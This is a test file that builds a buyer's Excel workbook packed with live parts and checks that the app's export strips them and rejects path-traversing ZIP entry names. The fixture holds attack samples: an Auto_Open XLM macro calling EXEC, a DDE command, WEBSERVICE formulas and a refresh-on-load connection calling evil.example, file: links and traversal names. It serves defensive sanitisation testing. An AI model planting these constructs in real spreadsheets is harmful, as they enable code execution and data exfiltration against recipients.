/**
 * The answered workbook keeps only what a questionnaire needs (docs/questionnaires.md,
 * "Nothing live comes back"). A buyer's workbook written here part by part and zipped with
 * fflate (not our reader's code) carries a data connection refreshed on load, a query table, an
 * XLM macro sheet calling EXEC("calc.exe"), an `_xlnm.Auto_Open` name, a DDE name
 * (`cmd|'/C calc'!A0`), a WEBSERVICE() name, an external link, an OLE object, an ActiveX
 * control, custom XML and custom properties, a WEBSERVICE() conditional format, a HYPERLINK()
 * validation and a `file:///…calc.exe` hyperlink. It is uploaded over HTTP, answered and
 * exported; the result is read with SheetJS and its ZIP entries and XML scanned: none of the
 * live parts remain, the relationships and content types name only parts that exist, the
 * answer is written and every other cell of the buyer is as it was. Entry names that differ only
 * in case, or that climb out of the package or are absolute, are refused at upload with a 422
 * naming the entry, and nothing is stored.
 */
import assert from "node:assert/strict";
import { strToU8, unzipSync, zipSync } from "fflate";
import { SheetJS } from "../deps.ts";
import { sha256Hex } from "../../src/lib/hash.ts";
import { createTestApp, snapshotKv } from "../support/app.ts";
import { team } from "../support/fixtures.ts";
import { fixture, ok } from "../support/questionnaires.ts";

const MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const PKG = "http://schemas.openxmlformats.org/package/2006/relationships";
const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const CT = "application/vnd.openxmlformats-officedocument";

function rels(items: [string, string, string, string?][]): string {
  return `${XML}<Relationships xmlns="${PKG}">${
    items.map(([id, type, target, mode]) =>
      `<Relationship Id="${id}" Type="${type}" Target="${target}"${
        mode ? ` TargetMode="${mode}"` : ""
      }/>`
    ).join("")
  }</Relationships>`;
}

/** The buyer's workbook: one question sheet and every live part the review found. */
export function liveWorkbook(): Uint8Array {
  const strings = [
    "ID", // 0
    "Question", // 1
    "Answer", // 2
    "Notes", // 3
    "Q-1", // 4
    "Do you encrypt data at rest?", // 5
    "Q-2", // 6
    "Do you run a bug bounty?", // 7
    "Buyer note kept", // 8
    "Open the tool", // 9
    "Our policy", // 10
    "Go to top", // 11
  ];
  const s = (i: number, ref: string) => `<c r="${ref}" t="s"><v>${i}</v></c>`;
  const sheet = `${XML}<worksheet xmlns="${MAIN}" xmlns:r="${R}">` +
    `<dimension ref="A1:E3"/><sheetData>` +
    `<row r="1">${s(0, "A1")}${s(1, "B1")}${s(2, "C1")}${s(3, "D1")}</row>` +
    `<row r="2">${s(4, "A2")}${s(5, "B2")}${s(8, "D2")}<c r="E2"><v>42</v></c></row>` +
    `<row r="3">${s(6, "A3")}${s(7, "B3")}${s(9, "D3")}` +
    `<c r="E3"><f>WEBSERVICE("http://evil.example/x")</f><v>7</v></c>` +
    `<c r="F3" t="s"><v>10</v></c><c r="G3" t="s"><v>11</v></c></row>` +
    `</sheetData>` +
    `<conditionalFormatting sqref="A2:A3">` +
    `<cfRule type="expression" dxfId="0" priority="1"><formula>LEN(WEBSERVICE("http://evil.example/?"&amp;A2))&gt;0</formula></cfRule>` +
    `</conditionalFormatting>` +
    `<conditionalFormatting sqref="C2:C3">` +
    `<cfRule type="expression" dxfId="0" priority="2"><formula>$C2="Yes"</formula></cfRule>` +
    `</conditionalFormatting>` +
    `<dataValidations count="2">` +
    `<dataValidation type="list" allowBlank="1" sqref="D2"><formula1>"Yes (all),No"</formula1></dataValidation>` +
    `<dataValidation type="custom" allowBlank="1" sqref="D3"><formula1>ISTEXT(HYPERLINK("file:///C:/Windows/System32/calc.exe"))</formula1></dataValidation>` +
    `</dataValidations>` +
    `<hyperlinks>` +
    `<hyperlink ref="D3" r:id="rId1"/>` +
    `<hyperlink ref="F3" r:id="rId2"/>` +
    `<hyperlink ref="G3" location="Questions!A1" display="Go to top"/>` +
    `</hyperlinks>` +
    `<pageMargins left="0.7" right="0.7" top="0.75" bottom="0.75" header="0.3" footer="0.3"/>` +
    `<pageSetup orientation="portrait" r:id="rId6"/>` +
    `<oleObjects><oleObject progId="Package" shapeId="1025" r:id="rId3"/></oleObjects>` +
    `<controls><control shapeId="1026" r:id="rId4" name="CommandButton1"/></controls>` +
    `<tableParts count="1"><tablePart r:id="rId5"/></tableParts>` +
    `</worksheet>`;
  const sst =
    `${XML}<sst xmlns="${MAIN}" count="${strings.length}" uniqueCount="${strings.length}">${
      strings.map((t) => `<si><t>${t}</t></si>`).join("")
    }</sst>`;
  const workbook = `${XML}<workbook xmlns="${MAIN}" xmlns:r="${R}">` +
    `<workbookPr/><bookViews><workbookView activeTab="0"/></bookViews>` +
    `<sheets><sheet name="Macro1" sheetId="2" r:id="rId2"/><sheet name="Questions" sheetId="1" r:id="rId1"/></sheets>` +
    `<externalReferences><externalReference r:id="rId6"/></externalReferences>` +
    `<definedNames>` +
    `<definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName>` +
    `<definedName name="Auto_Close">Macro1!$A$2</definedName>` +
    `<definedName name="Evil">cmd|'/C calc'!A0</definedName>` +
    `<definedName name="Web">WEBSERVICE("http://evil.example/name")</definedName>` +
    `<definedName name="Ext">[1]Sheet1!$A$1</definedName>` +
    `<definedName name="Answers">Questions!$C$2:$C$3</definedName>` +
    `<definedName name="_xlnm.Print_Area" localSheetId="1">Questions!$A$1:$D$3</definedName>` +
    `</definedNames><calcPr calcId="191029"/></workbook>`;
  const ms = "http://schemas.microsoft.com/office/2006/relationships";
  const parts: Record<string, string | Uint8Array> = {
    "[Content_Types].xml":
      `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
      `<Default Extension="rels" ContentType="${CT}.package.relationships+xml"/>` +
      `<Default Extension="xml" ContentType="application/xml"/>` +
      `<Default Extension="bin" ContentType="${CT}.oleObject"/>` +
      `<Override PartName="/xl/workbook.xml" ContentType="${CT}.spreadsheetml.sheet.main+xml"/>` +
      `<Override PartName="/xl/worksheets/sheet1.xml" ContentType="${CT}.spreadsheetml.worksheet+xml"/>` +
      `<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>` +
      `<Override PartName="/xl/sharedStrings.xml" ContentType="${CT}.spreadsheetml.sharedStrings+xml"/>` +
      `<Override PartName="/xl/styles.xml" ContentType="${CT}.spreadsheetml.styles+xml"/>` +
      `<Override PartName="/xl/connections.xml" ContentType="${CT}.spreadsheetml.connections+xml"/>` +
      `<Override PartName="/xl/queryTables/queryTable1.xml" ContentType="${CT}.spreadsheetml.queryTable+xml"/>` +
      `<Override PartName="/xl/tables/table1.xml" ContentType="${CT}.spreadsheetml.table+xml"/>` +
      `<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="${CT}.spreadsheetml.externalLink+xml"/>` +
      `<Override PartName="/xl/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>` +
      `<Override PartName="/customXml/item1.xml" ContentType="application/xml"/>` +
      `<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>` +
      `<Override PartName="/docProps/app.xml" ContentType="${CT}.extended-properties+xml"/>` +
      `<Override PartName="/docProps/custom.xml" ContentType="${CT}.custom-properties+xml"/>` +
      `</Types>`,
    "_rels/.rels": rels([
      ["rId1", `${R}/officeDocument`, "xl/workbook.xml"],
      ["rId2", `${PKG}/metadata/core-properties`, "docProps/core.xml"],
      ["rId3", `${R}/extended-properties`, "docProps/app.xml"],
      ["rId4", `${R}/custom-properties`, "docProps/custom.xml"],
    ]),
    "docProps/core.xml":
      `${XML}<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Globex security review</dc:title></cp:coreProperties>`,
    "docProps/app.xml":
      `${XML}<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Application>Microsoft Excel</Application></Properties>`,
    "docProps/custom.xml":
      `${XML}<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="_PID_HLINKS"><vt:lpwstr>file:///C:/Windows/System32/calc.exe</vt:lpwstr></property></Properties>`,
    "xl/workbook.xml": workbook,
    "xl/_rels/workbook.xml.rels": rels([
      ["rId1", `${R}/worksheet`, "worksheets/sheet1.xml"],
      ["rId2", `${ms}/xlMacrosheet`, "macrosheets/sheet1.xml"],
      ["rId3", `${R}/sharedStrings`, "sharedStrings.xml"],
      ["rId4", `${R}/styles`, "styles.xml"],
      ["rId5", `${R}/connections`, "connections.xml"],
      ["rId6", `${R}/externalLink`, "externalLinks/externalLink1.xml"],
      ["rId7", `${R}/customXml`, "../customXml/item1.xml"],
    ]),
    "xl/worksheets/sheet1.xml": sheet,
    "xl/worksheets/_rels/sheet1.xml.rels": rels([
      ["rId1", `${R}/hyperlink`, "file:///C:/Windows/System32/calc.exe", "External"],
      ["rId2", `${R}/hyperlink`, "https://buyer.example/policy", "External"],
      ["rId3", `${R}/oleObject`, "../embeddings/oleObject1.bin"],
      ["rId4", `${R}/control`, "../activeX/activeX1.xml"],
      ["rId5", `${R}/table`, "../tables/table1.xml"],
      ["rId6", `${R}/printerSettings`, "../printerSettings/printerSettings1.bin"],
    ]),
    "xl/macrosheets/sheet1.xml":
      `${XML}<xm:macrosheet xmlns="${MAIN}" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>`,
    "xl/sharedStrings.xml": sst,
    "xl/styles.xml":
      `${XML}<styleSheet xmlns="${MAIN}"><fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts><fills count="1"><fill><patternFill patternType="none"/></fill></fills><borders count="1"><border/></borders><cellStyleXfs count="1"><xf/></cellStyleXfs><cellXfs count="1"><xf/></cellXfs><dxfs count="1"><dxf><font><b/></font></dxf></dxfs></styleSheet>`,
    "xl/connections.xml":
      `${XML}<connections xmlns="${MAIN}"><connection id="1" name="evil" type="4" refreshedVersion="6" refreshOnLoad="1" background="1" saveData="1"><webPr sourceData="1" url="http://evil.example/data.xml" htmlTables="1"/></connection></connections>`,
    "xl/queryTables/queryTable1.xml":
      `${XML}<queryTable xmlns="${MAIN}" name="evil" connectionId="1" refreshOnLoad="1" autoFormatId="16" applyNumberFormats="0" applyBorderFormats="0" applyFontFormats="0" applyPatternFormats="0" applyAlignmentFormats="0" applyWidthHeightFormats="0"/>`,
    "xl/tables/table1.xml":
      `${XML}<table xmlns="${MAIN}" id="1" name="Table1" displayName="Table1" ref="E1:E3" tableType="queryTable" totalsRowShown="0"><tableColumns count="1"><tableColumn id="1" name="Data" queryTableFieldId="1"/></tableColumns></table>`,
    "xl/tables/_rels/table1.xml.rels": rels([
      ["rId1", `${R}/queryTable`, "../queryTables/queryTable1.xml"],
    ]),
    "xl/externalLinks/externalLink1.xml":
      `${XML}<externalLink xmlns="${MAIN}" xmlns:r="${R}"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>`,
    "xl/externalLinks/_rels/externalLink1.xml.rels": rels([
      ["rId1", `${R}/externalLinkPath`, "file:///\\\\evil.example\\share\\book.xlsx", "External"],
    ]),
    "xl/embeddings/oleObject1.bin": strToU8("OLE object: calc.exe"),
    "xl/printerSettings/printerSettings1.bin": strToU8("printer"),
    "xl/activeX/activeX1.xml":
      `${XML}<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistPropertyBag"/>`,
    "customXml/item1.xml": `${XML}<evil>http://evil.example/</evil>`,
  };
  return zipSync(
    Object.fromEntries(
      Object.entries(parts).map(([name, data]) => [
        name,
        [typeof data === "string" ? strToU8(data) : data, { mtime: new Date(1980, 0, 1) }],
      ]),
    ),
  );
}

/** Text of every part of a ZIP, by name. */
function partsOf(bytes: Uint8Array): Map<string, string> {
  return new Map(
    Object.entries(unzipSync(bytes)).map(([name, data]) => [name, new TextDecoder().decode(data)]),
  );
}

Deno.test("[questionnaires] the answered workbook keeps no live part of the buyer's", async () => {
  await using ctx = await createTestApp();
  const acme = await team(ctx);
  const original = liveWorkbook();
  const uploaded = await ctx.call("POST", `/organizations/${acme.orgId}/questionnaires`, {
    token: acme.member,
    body: original as Uint8Array<ArrayBuffer>,
    headers: { "content-type": "application/octet-stream" },
  });
  const { questionnaire } = await ok(uploaded, 201);
  assert.deepEqual(questionnaire.sheets.map((s: { name: string }) => s.name), ["Questions"]);
  const base = `/organizations/${acme.orgId}/questionnaires/${questionnaire.id}`;
  const { rows } = await ok(await ctx.call("GET", `${base}/rows`, { token: acme.member }));
  assert.equal(rows.length, 2);
  const answer = "Yes, with AES-256.";
  await ok(
    await ctx.call("PATCH", `${base}/rows/${rows[0].key}`, {
      token: acme.member,
      json: { state: "edited", answer },
    }),
  );
  const file = await ctx.call("GET", `${base}/export`, { token: acme.member });
  assert.equal(file.status, 200);
  const bytes = new Uint8Array(await file.arrayBuffer());

  // The ZIP: only the allow-list's parts.
  const parts = partsOf(bytes);
  const names = [...parts.keys()].sort();
  assert.deepEqual(names, [
    "[Content_Types].xml",
    "_rels/.rels",
    "docProps/app.xml",
    "docProps/core.xml",
    "xl/_rels/workbook.xml.rels",
    "xl/sharedStrings.xml",
    "xl/styles.xml",
    "xl/workbook.xml",
    "xl/worksheets/_rels/sheet1.xml.rels",
    "xl/worksheets/sheet1.xml",
  ]);
  const everything = [...parts.values()].join("\n");
  for (
    const live of [
      /connection/i,
      /macrosheet/i,
      /EXEC\(/,
      /calc\.exe|\/C calc/i,
      /WEBSERVICE/i,
      /HYPERLINK\(/i,
      /Auto_Open|Auto_Close/i,
      /cmd\|/,
      /externalLink|externalReference/i,
      /oleObject|embeddings/i,
      /activeX|<control/i,
      /queryTable|tablePart/i,
      /customXml|custom-properties/i,
      /printerSettings/i,
      /file:/i,
      /evil\.example/,
      /<f[ >]/,
    ]
  ) {
    assert.doesNotMatch(everything, live);
  }

  // Every relationship names a part that exists; every override too; every r:id resolves.
  const resolve = (base: string, target: string) => {
    const out: string[] = [];
    for (const segment of (base + target).split("/")) {
      if (segment === "..") out.pop();
      else if (segment !== "." && segment !== "") out.push(segment);
    }
    return out.join("/");
  };
  const idsOf = new Map<string, Set<string>>();
  for (const [name, xml] of parts) {
    if (!name.endsWith(".rels")) continue;
    const owner = name.replace(/_rels\/([^/]*)\.rels$/, "$1");
    const base = owner.slice(0, owner.lastIndexOf("/") + 1);
    const ids = new Set<string>();
    for (const m of xml.matchAll(/<Relationship ([^>]*)\/>/g)) {
      const id = /Id="([^"]*)"/.exec(m[1])![1];
      const target = /Target="([^"]*)"/.exec(m[1])![1];
      ids.add(id);
      if (/TargetMode="External"/.test(m[1])) {
        assert.match(target, /^https:\/\//, `${name}: ${target}`);
      } else assert.ok(parts.has(resolve(base, target)), `${name}: ${target} exists`);
    }
    idsOf.set(owner, ids);
  }
  for (const m of parts.get("[Content_Types].xml")!.matchAll(/PartName="\/([^"]*)"/g)) {
    assert.ok(parts.has(m[1]), `override for ${m[1]} names a part`);
  }
  for (const [name, xml] of parts) {
    for (const m of xml.matchAll(/\br:id="([^"]*)"/g)) {
      assert.ok(idsOf.get(name)?.has(m[1]), `${name}: r:id ${m[1]} resolves`);
    }
  }
  const workbook = parts.get("xl/workbook.xml")!;
  assert.doesNotMatch(workbook, /Macro1/);
  assert.match(workbook, /<definedName name="Answers">Questions!\$C\$2:\$C\$3<\/definedName>/);
  // The print area moved with its sheet, first of the sheets now.
  assert.match(workbook, /name="_xlnm.Print_Area" localSheetId="0"/);
  const sheetXml = parts.get("xl/worksheets/sheet1.xml")!;
  assert.match(sheetXml, /<formula>\$C2="Yes"<\/formula>/, "the inert format rule stays");
  assert.match(sheetXml, /<dataValidations count="1">/);
  assert.match(sheetXml, /"Yes \(all\),No"/, "the inert validation stays");
  assert.match(sheetXml, /location="Questions!A1"/, "the internal link stays");
  assert.match(sheetXml, /<pageSetup orientation="portrait"\/>/);

  // SheetJS: the answer written; every other cell of the buyer as it was; the web link kept.
  const read = (data: Uint8Array) =>
    SheetJS.read(data.slice(), { type: "array", cellFormula: true });
  const before = read(original).Sheets.Questions;
  const book = read(bytes);
  assert.deepEqual(book.SheetNames, ["Questions"]);
  const after = book.Sheets.Questions;
  assert.equal(after.C2.v, answer);
  assert.equal(after.C3.v, "No answer");
  // "Notes" holds the buyer's own notes: the evidence (an edit's says who wrote it) gets a column
  // of its own after the last one used, and the buyer's note stays.
  assert.equal(after.D2.v, "Buyer note kept");
  assert.equal(after.H1.v, "Evidence");
  assert.equal(after.H2.v, "Edited by the vendor");
  assert.equal(after.F3.l?.Target, "https://buyer.example/policy");
  assert.equal(after.D3.l, undefined, "the file: link is gone, its text stays");
  for (const ref of Object.keys(before).filter((key) => !key.startsWith("!"))) {
    if (ref === "C2" || ref === "C3") continue;
    assert.equal(after[ref]?.v, before[ref].v, `${ref} unchanged`);
    assert.equal(after[ref]?.f, undefined, `${ref} holds no formula`);
  }
  assert.equal(after.E3.v, 7, "a formula cell keeps its cached value only");
});

Deno.test("[questionnaires] case-variant duplicate and traversing entry names are refused, nothing stored", async (t) => {
  await using ctx = await createTestApp();
  const acme = await team(ctx);
  const caiq = unzipSync(await fixture("caiq_v4.0.3.xlsx"));
  const formulaSheet = strToU8(
    `${XML}<worksheet xmlns="${MAIN}"><sheetData><row r="1"><c r="A1"><f>WEBSERVICE("http://evil.example/")</f><v>1</v></c></row></sheetData></worksheet>`,
  );
  const cases: [string, string][] = [
    ["a case-variant duplicate of a sheet with a formula", "XL/worksheets/Sheet1.xml"],
    ["a name that climbs out", "../../evil.xml"],
    ["a name that climbs out midway", "xl/../../evil.xml"],
    ["an absolute name", "/etc/evil.xml"],
    ["a backslash", "xl\\worksheets\\evil.xml"],
    ["a drive letter", "C:/evil.xml"],
  ];
  for (const [label, name] of cases) {
    await t.step(`${label}: 422 naming ${name}`, async () => {
      const bytes = zipSync({ ...caiq, [name]: formulaSheet });
      const before = await snapshotKv(ctx.kv);
      const res = await ctx.call("POST", `/organizations/${acme.orgId}/questionnaires`, {
        token: acme.member,
        body: bytes as Uint8Array<ArrayBuffer>,
        headers: { "content-type": "application/octet-stream" },
      });
      const body = await res.json();
      assert.equal(res.status, 422, JSON.stringify(body));
      assert.equal(body.error.code, "unprocessable");
      assert.ok(
        body.error.message.includes(JSON.stringify(name).slice(1, -1)) ||
          body.error.message.includes(name),
        body.error.message,
      );
      assert.equal(await snapshotKv(ctx.kv), before, "no KV entry changed");
      assert.equal(await ctx.services.blobs.has(`document/${await sha256Hex(bytes)}`), false);
    });
  }
});
